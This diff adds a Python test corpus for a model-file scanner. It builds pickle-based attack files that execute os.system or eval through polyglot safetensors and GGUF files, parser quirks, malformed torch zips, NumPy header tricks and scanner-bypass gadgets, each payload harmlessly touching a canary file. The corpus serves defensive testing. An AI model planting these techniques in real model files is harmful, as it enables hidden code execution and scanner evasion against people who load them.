@@ -1,0 +1,328 @@
+"""Files built where paramcount's reading once differed from a real loader's (issue 18): each one's payload runs under
+the loader named in its ``oracle`` (checked in tests/test_differential.py), and each must be unsafe (exit 4).
+
+* polyglots: a valid safetensors or GGUF file that is also a pickle from byte 0 (``torch.load`` of a ``.bin`` and
+  ``pickle.load`` unpickle it);
+* text arguments CPython accepts and ``pickletools`` refused (``I0x1``, ``I0o7``, ``I0b1``, ``L0x1L``, a NUL after a
+  number), before a payload, in a plain pickle, a legacy stream, a zip's ``data.pkl`` and a DCP ``.metadata``;
+* no-ops CPython allows (``BUILD (None, {})`` on an int or a dict, ``STOP`` over two values) in a legacy stream's
+  first pickles, before the object pickle's payload;
+* zips torch's reader opens that a stricter reading refused (a comment ending in a fake end-record signature, a
+  directory longer than its end record says, bytes between the directory and the end record, an unused member whose
+  local header differs, ``data.pkl`` spelled ``DATA.PKL``, a benign ``data.pkl`` beside a malicious ``data.PKL``);
+* NumPy object arrays spelled the ways numpy's parser reads (an escape for ``O``, ``'object'``, a header over
+  64 KiB), in ``.npy`` and ``.npz``;
+* gadgets through allowlisted functions (``_rebuild_from_type_v2`` calling ``torch`` + ``os.system`` or
+  ``torch.utils.collect_env.run``), a state dict holding ``torch.os.system``, a ``BUILD`` that rewrites
+  ``torch._utils`` (picklescan's ``sys_module_override_sploit``);
+* the earliest ``torch.save`` format, a tar, with a payload in a member torch unpickles.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import struct
+import tarfile
+import zipfile
+from typing import TYPE_CHECKING
+
+from tests.corpus import CANARY, Case
+from tests.corpus.pickle_cases import GOOD, npy
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+    from pathlib import Path
+
+MAGIC = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
+PROTOCOL = b"\x80\x02M\xe9\x03."
+SYS_INFO = b"\x80\x02}q\x00."
+
+
+def payload(folder: Path) -> bytes:
+    """``os.system("touch CANARY")``, protocol 0."""
+    return b"cos\nsystem\n(S'touch " + str(folder / CANARY).encode() + b"'\ntR."
+
+
+def _file(name: str, make: Callable[[Path], bytes]) -> Callable[[Path], str]:
+    def build(folder: Path) -> str:
+        (folder / name).write_bytes(make(folder))
+        return str(folder / name)
+
+    return build
+
+
+def _zip(
+    members: Callable[[Path], list[tuple[str, bytes]]],
+    patch: Callable[[bytes], bytes] | None = None,
+    name: str = "model.pt",
+) -> Callable[[Path], str]:
+    def build(folder: Path) -> str:
+        import warnings
+
+        buffer = io.BytesIO()
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")  # duplicate names are the point of some cases
+            with zipfile.ZipFile(buffer, "w") as archive:
+                for member, data in members(folder):
+                    archive.writestr(member, data)
+        data = buffer.getvalue()
+        (folder / name).write_bytes(patch(data) if patch else data)
+        return str(folder / name)
+
+    return build
+
+
+def _torch_zip(
+    data_pkl: Callable[[Path], bytes], *extra: tuple[str, bytes]
+) -> Callable[[Path], list[tuple[str, bytes]]]:
+    return lambda folder: [("archive/data.pkl", data_pkl(folder)), ("archive/version", b"3\n"), *extra]
+
+
+# -- polyglots --------------------------------------------------------------------------------------------------------
+
+
+def safetensors_polyglot(folder: Path) -> bytes:
+    """A valid safetensors file whose header length, ``46 31 00 ...``, reads as ``F1`` then a NUL: C's FLOAT takes
+    ``1`` and its line runs to the newline that ends the (whitespace-padded) JSON header; the payload is the tensor
+    data after it."""
+    body = b"0" + payload(folder)  # POP the float, then the payload
+    header = json.dumps({"w": {"dtype": "U8", "shape": [len(body)], "data_offsets": [0, len(body)]}}).encode()
+    length = 0x3146  # b"F1\0\0\0\0\0\0"
+    header = header + b" " * (length - len(header) - 1) + b"\n"
+    assert len(header) == length
+    return struct.pack("<Q", length) + header + body
+
+
+def gguf_polyglot(folder: Path) -> bytes:
+    """A valid GGUF file: ``G`` (BINFLOAT) takes ``GUF``, the version and the tensor count's first byte; its second
+    byte, ``I`` (0x49: 18,688 tensors), is an INT whose line starts with a NUL (C's strtol reads 0) and runs to the
+    newline in the first metadata string; the payload follows it."""
+    text = b"x\n0" + payload(folder)
+    n = 0x4900
+    out = b"GGUF" + struct.pack("<IQQ", 3, n, 1)
+    out += struct.pack("<Q", 12) + b"general.name" + struct.pack("<IQ", 8, len(text)) + text
+    for i in range(n):
+        name = f"t{i}".encode()
+        out += struct.pack("<Q", len(name)) + name + struct.pack("<IQIQ", 1, 1, 0, 32 * i)
+    out += b"\0" * (-len(out) % 32)
+    return out + b"\0" * (32 * n)
+
+
+# -- text arguments CPython reads and pickletools did not -------------------------------------------------------------
+
+TRICKS = {
+    "hex-int": b"I0x1\n0",
+    "octal-int": b"I0o7\n0",
+    "binary-int": b"I0b1\n0",
+    "hex-long": b"L0x1L\n0",
+    "nul-after-int": b"I1\x00zz\n0",
+    "nul-after-float": b"F1.5\x00zz\n0",
+    "nul-after-put": b"Np1\x00zz\n0",
+}
+
+
+def _legacy(object_pickle: Callable[[Path], bytes], *, sys_info: bytes = SYS_INFO) -> Callable[[Path], bytes]:
+    return lambda folder: MAGIC + PROTOCOL + sys_info + object_pickle(folder)
+
+
+def _dcp(data: Callable[[Path], bytes]) -> Callable[[Path], str]:
+    def build(folder: Path) -> str:
+        checkpoint = folder / "ckpt"
+        checkpoint.mkdir()
+        (checkpoint / ".metadata").write_bytes(data(folder))
+        return str(checkpoint)
+
+    return build
+
+
+def _trick(prefix: bytes) -> Callable[[Path], bytes]:
+    return lambda folder: prefix + payload(folder)
+
+
+# -- zips torch's reader opens ----------------------------------------------------------------------------------------
+
+
+def _fake_end_in_comment(data: bytes) -> bytes:
+    comment = b"x" * 30 + b"PK\x05\x06" + b"\0" * 10  # fewer than 22 bytes after it: miniz looks past it
+    return data[:-2] + struct.pack("<H", len(comment)) + comment
+
+
+def _directory_longer(data: bytes) -> bytes:
+    """The end record counts one entry fewer than the directory holds (miniz reads that many, zipfile all)."""
+    at = data.rindex(b"PK\x05\x06")
+    entries = struct.unpack_from("<H", data, at + 10)[0]
+    return data[: at + 8] + struct.pack("<HH", entries - 1, entries - 1) + data[at + 12 :]
+
+
+def _gap_before_end(data: bytes) -> bytes:
+    at = data.rindex(b"PK\x05\x06")
+    return data[:at] + b"\0" * 16 + data[at:]
+
+
+def _unused_local_renamed(data: bytes) -> bytes:
+    at = data.index(b"archive/unused")
+    return data[:at] + b"archive/UNUSED" + data[at + 14 :]
+
+
+# -- NumPy ------------------------------------------------------------------------------------------------------------
+
+
+def _npy_header(descr: bytes, pad: int = 0) -> bytes:
+    return b"{'descr': " + descr + b", 'fortran_order': False, 'shape': (1,), }" + b" " * pad
+
+
+def _npy_v2(header: bytes, body: bytes) -> bytes:
+    header += b" " * (-(12 + len(header) + 1) % 64) + b"\n"
+    return b"\x93NUMPY\x02\x00" + struct.pack("<I", len(header)) + header + body
+
+
+def _npz(member: Callable[[Path], bytes]) -> Callable[[Path], str]:
+    return _zip(lambda folder: [("w.npy", member(folder))], name="arrays.npz")
+
+
+NUMPY = {
+    "escaped-object": lambda f: npy(_npy_header(b"'\\x4f'"), b"\x80\x02" + payload(f)),
+    "object-by-name": lambda f: npy(_npy_header(b"'object'"), b"\x80\x02" + payload(f)),
+    "header-over-64k": lambda f: _npy_v2(_npy_header(b"'|O'", 70_000), b"\x80\x02" + payload(f)),
+}
+
+
+# -- gadgets ----------------------------------------------------------------------------------------------------------
+
+
+def _rebuild_calling(func: bytes) -> Callable[[Path], bytes]:
+    """``{"w": _rebuild_from_type_v2(func, torch.Tensor, ("touch CANARY",), None)}``, protocol 4."""
+
+    def make(folder: Path) -> bytes:
+        command = f"touch {folder / CANARY}".encode()
+        return (
+            b"\x80\x04}\x8c\x01w"
+            + b"\x8c\x0dtorch._tensor\x8c\x15_rebuild_from_type_v2\x93"
+            + b"("
+            + func
+            + b"\x8c\x05torch\x8c\x06Tensor\x93"
+            + b"\x8c"
+            + bytes([len(command)])
+            + command
+            + b"\x85Nt"
+            + b"Rs."
+        )
+
+    return make
+
+
+TORCH_OS_SYSTEM_GLOBAL = b"ctorch\nos.system\n"  # GLOBAL under protocol 4: a dotted name, found through torch.os
+TORCH_OS_SYSTEM_STACK = b"\x8c\x05torch\x8c\tos.system\x93"
+COLLECT_ENV_RUN = b"\x8c\x17torch.utils.collect_env\x8c\x03run\x93"
+
+
+def _holding(func: bytes) -> Callable[[Path], bytes]:
+    return lambda folder: b"\x80\x04}\x8c\x01w" + func + b"s."
+
+
+def sys_module_override(folder: Path) -> bytes:
+    """picklescan's ``sys_module_override_sploit.pkl``, rebuilt: ``BUILD`` sets ``torch._utils._rebuild_tensor`` to
+    ``"builtins"``, then to ``"eval"``; ``STACK_GLOBAL`` of those two values is ``builtins.eval``."""
+    code = f"__import__('os').system('touch {folder / CANARY}')".encode()
+    return (
+        b"\x80\x04Vtorch._utils\n\x94V_rebuild_tensor\n\x94\x93\x940Vtorch\nV_utils\n\x93\x940"
+        b"h\x03}h\x01Vbuiltins\nsb0h\x00h\x01\x93h\x03}h\x01Veval\nsb0h\x00h\x01\x93\x93"
+        b"\x8c" + bytes([len(code)]) + code + b"\x85R."
+    )
+
+
+# -- the tar format ---------------------------------------------------------------------------------------------------
+
+
+def _tar(member: str, data: Callable[[Path], bytes]) -> Callable[[Path], str]:
+    def build(folder: Path) -> str:
+        path = folder / "model.pt"
+        contents = {"storages": b"\x80\x02K\x00.\x80\x02].", "tensors": b"\x80\x02K\x00.", "pickle": b"\x80\x02}."}
+        contents[member] = data(folder)
+        with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
+            for name in ("sys_info", "pickle", "storages", "tensors"):
+                body = contents.get(name, b"\x80\x02}.")
+                info = tarfile.TarInfo(name)
+                info.size = len(body)
+                archive.addfile(info, io.BytesIO(body))
+        return str(path)
+
+    return build
+
+
+def cases() -> list[Case]:
+    found: list[Case] = []
+
+    def add(name: str, build: Callable[[Path], str], oracle: tuple[str, str]) -> None:
+        found.append(Case(f"loader-{name}", "loader", build, 4, malicious=True, oracle=oracle))
+
+    add("safetensors-polyglot-bin", _file("model.bin", safetensors_polyglot), ("pickle", "os.system"))
+    add("safetensors-polyglot", _file("model.safetensors", safetensors_polyglot), ("pickle", "os.system"))
+    add("gguf-polyglot", _file("model.gguf", gguf_polyglot), ("pickle", "os.system"))
+    add("gguf-polyglot-bin", _file("model.bin", gguf_polyglot), ("torch", "os.system"))
+    for trick, prefix in TRICKS.items():
+        add(f"{trick}-pickle", _file("model.pkl", _trick(prefix)), ("pickle", "os.system"))
+        add(f"{trick}-legacy", _file("model.pt", _legacy(_trick(prefix))), ("torch", "os.system"))
+        add(f"{trick}-zip", _zip(_torch_zip(_trick(prefix))), ("torch", "os.system"))
+        add(f"{trick}-dcp", _dcp(_trick(prefix)), ("pickle", "os.system"))
+    for name, noop in {
+        "build-none-on-int": b"\x80\x02K\x01N}\x86b.",
+        "build-none-on-dict": b"\x80\x02}N}\x86b.",
+        "stop-over-two-values": b"\x80\x02K\x01K\x02.",
+    }.items():
+        add(f"legacy-{name}", _file("model.pt", _legacy(payload, sys_info=noop)), ("torch", "os.system"))
+    good = ("archive/data/0", bytes(16))
+    add("zip-fake-end-in-comment", _zip(_torch_zip(payload, good), _fake_end_in_comment), ("torch", "os.system"))
+    add("zip-directory-longer", _zip(_torch_zip(payload, good), _directory_longer), ("torch", "os.system"))
+    add("zip-gap-before-end", _zip(_torch_zip(payload, good), _gap_before_end), ("torch", "os.system"))
+    add(
+        "zip-unused-local-renamed",
+        _zip(_torch_zip(payload, good, ("archive/unused", b"x")), _unused_local_renamed),
+        ("torch", "os.system"),
+    )
+    add(
+        "zip-upper-case-only",
+        _zip(lambda f: [("archive/DATA.PKL", payload(f)), ("archive/version", b"3\n")]),
+        ("torch", "os.system"),
+    )
+    add(
+        "zip-upper-case-beside-benign",
+        _zip(
+            lambda f: [
+                # in this order miniz's heap sort puts data.PKL where its binary search meets it first
+                ("archive/data.pkl", GOOD),
+                ("archive/data.PKL", payload(f)),
+                ("archive/data/0", bytes(16)),
+                ("archive/version", b"3\n"),
+            ]
+        ),
+        ("torch", "os.system"),
+    )
+    for name, make in NUMPY.items():
+        add(f"npy-{name}", _file("array.npy", make), ("numpy", "os.system"))
+        add(f"npz-{name}", _npz(make), ("numpy", "os.system"))
+    add(
+        "rebuild-calls-torch-os-system",
+        _zip(_torch_zip(_rebuild_calling(TORCH_OS_SYSTEM_GLOBAL))),
+        ("torch", "torch.os.system"),
+    )
+    add(
+        "rebuild-calls-stack-global",
+        _zip(_torch_zip(_rebuild_calling(TORCH_OS_SYSTEM_STACK))),
+        ("torch", "torch.os.system"),
+    )
+    add(
+        "rebuild-calls-collect-env-run",
+        _zip(_torch_zip(_rebuild_calling(COLLECT_ENV_RUN))),
+        ("torch", "torch.utils.collect_env.run"),
+    )
+    add(
+        "state-dict-holds-torch-os-system",
+        _zip(_torch_zip(_holding(TORCH_OS_SYSTEM_STACK))),
+        ("torch", "torch.os.system"),
+    )
+    add("sys-module-override", _file("model.pkl", sys_module_override), ("pickle", "torch._utils"))
+    add("tar-pickle-member", _tar("pickle", payload), ("torch", "os.system"))
+    add("tar-storages-member", _tar("storages", payload), ("torch", "os.system"))
+    return found
